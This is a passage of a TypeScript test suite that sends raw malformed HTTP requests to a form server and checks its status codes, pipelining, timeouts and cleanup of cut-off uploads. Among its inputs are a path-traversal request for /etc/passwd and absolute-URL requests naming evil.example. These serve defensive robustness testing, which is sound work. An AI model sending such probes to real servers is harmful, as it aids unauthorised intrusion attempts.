      await talk([start('Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\n'), '{}']),
      [400],
    )
    checkTalk(
      'a length that is none',
      await talk([start('Content-Type: application/json\r\nContent-Length: -1\r\n'), '{}']),
      [400],
    )
    checkTalk(
      'a length past all numbers',
      await talk([start('Content-Type: application/json\r\nContent-Length: 99999999999999999999\r\n'), '{}']),
      [400],
    )
    const { head, payload: bytes } = upload(100)
    // The rest of it is taken for the next request, and is none.
    checkTalk('a length that is too short', await talk([head, bytes], { statuses: 2 }), [400])
    await checkAftermath()
  })

  it('refuses what is no request, and heads without end', async () => {
    const cases: [string, string | Buffer, number[]][] = [
      ['noise', Buffer.from([0x16, 0x03, 0x01, 0x00, 0xff, 0x00, 0x01]), [400]],
      ['no version', 'GET /\r\n\r\n', [400, 404]],
      ['another protocol', 'SSH-2.0-client\r\n\r\n', [400]],
      ['a method of our own', 'BREW /pot HTTP/1.1\r\nHost: a\r\n\r\n', [400]],
      ['TRACE', start('', 'TRACE /health HTTP/1.1'), [404, 405]],
      ['no host', 'GET /health HTTP/1.1\r\n\r\n', [400]],
      ['a version to come', 'GET /health HTTP/3.0\r\nHost: a\r\n\r\n', [400, 505]],
      ['HTTP/1.0', 'GET /health HTTP/1.0\r\n\r\n', [200]],
      ['a NUL in a header', start(`x: a\0b\r\n`, 'GET /health HTTP/1.1'), [400]],
      ['a header without a name', start(': x\r\n', 'GET /health HTTP/1.1'), [400]],
      ['a space before the colon', start('x : y\r\n', 'GET /health HTTP/1.1'), [400]],
      ['a header of 100 KB', start(`x: ${mark.repeat(12_500)}\r\n`, 'GET /health HTTP/1.1'), [431]],
      [
        '5,000 headers',
        start(Array.from({ length: 5_000 }, (_, i) => `x-${i}: ${mark}\r\n`).join(''), 'GET /health HTTP/1.1'),
        [431],
      ],
      ['an address of 100 KB', start('', `GET /${'a'.repeat(100_000)} HTTP/1.1`), [414, 431]],
      ['the whole of an address', start('', 'GET http://evil.example/health HTTP/1.1'), [200]],
      ['the whole of one without a path', start('', 'GET HTTPS://evil.example?x HTTP/1.1'), [404]],
      ['an address that is no UTF-8', start('', 'GET /_sf/api/v1/forms/%ff%fe HTTP/1.1'), [404]],
      ['an address of dots', start('', 'GET /../../../../etc/passwd HTTP/1.1'), [404]],
      [
        'a wish to change the protocol',
        start('Connection: Upgrade\r\nUpgrade: websocket\r\n', 'GET /health HTTP/1.1'),
        [200, 404],
      ],
      [
        'an expectation that nobody fulfils',
        start('Content-Length: 2\r\nContent-Type: application/json\r\nExpect: miracles\r\n'),
        [417, 400],
      ],
    ]
    for (const [what, text, allowed] of cases) checkTalk(what, await talk([text]), allowed)
    // Under whichever name it is asked for, a signed page is kept nowhere.
    const signed = await talk([start('', 'GET http://evil.example/_sf/api/v1/alerts/none HTTP/1.1')])
    expect(signed).toMatch(/^cache-control: no-store\r$/im)
    expect(signed).toMatch(/^referrer-policy: no-referrer\r$/im)
    await checkAftermath()
  })

  it('answers requests in one packet one by one, in their order', async () => {
    const ask = (path: string, status: string) => ({
      text: `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`,
      status: Number(status),
    })
    const asked = [
      ask('/health', '200'),
      ask('/_sf/api/v1/forms/none', '404'),
      ask('/_sf/api/v1/forms/register', '200'),
      ask('/nowhere', '404'),
    ]
    const text = await talk([asked.map(one => one.text).join('')], { statuses: asked.length })
    expect(codes(text)).toEqual(asked.map(({ status }) => status))
    const { head, payload } = upload()
    expect(
      codes(await talk([Buffer.concat([Buffer.from(head), payload, Buffer.from(head), payload])], { statuses: 2 })),
    ).toEqual([200, 200])
    await checkAftermath()
  })

  it('keeps nothing of what was cut off, wherever', async () => {
    const { head, payload } = upload()
    const large = multipart([
      ...fields({ ...person, ...consent, [submissionFields.id]: randomUUID() }),
      file('cv', 'cv.txt', Buffer.alloc(150_000, mark)),
    ])
    const largeHead = start(
      `Content-Type: ${large.headers['content-type']}\r\nContent-Length: ${large.payload.length}\r\n`,
    )
    const before = readdirSync(join(folder, 'submissions', 'open')).length
    await talk([head.slice(0, 50)], { cut: true })
    await talk([head], { cut: true })
    for (const share of [0.1, 0.5, 0.9, 0.99])
      await talk([head, payload.subarray(0, Math.floor(payload.length * share))], { cut: true })
    for (const share of [0.3, 0.9])
      await talk([largeHead, large.payload.subarray(0, Math.floor(large.payload.length * share))], { cut: true })
    // As a browser does that is closed: half an upload, then a proper end.
    await new Promise<void>(resolve => {
      const socket = connect(port, '127.0.0.1', () =>
        socket.end(Buffer.concat([Buffer.from(largeHead), large.payload.subarray(0, 100_000)])),
      )
      socket.on('error', () => resolve())
      socket.on('close', () => resolve())
      socket.resume()
    })
    await expect
      .poll(() => new Promise(resolve => app.server.getConnections((_error, count) => resolve(count))))
      .toBe(0)
    expect(readdirSync(join(folder, 'submissions', 'open')).length).toBe(before)
    await checkAftermath()
  })

  it('lets nobody take for ever', () => {
    expect(app.server.requestTimeout).toBe(300_000)
    expect(app.server.headersTimeout).toBeLessThanOrEqual(60_000)
  })
})
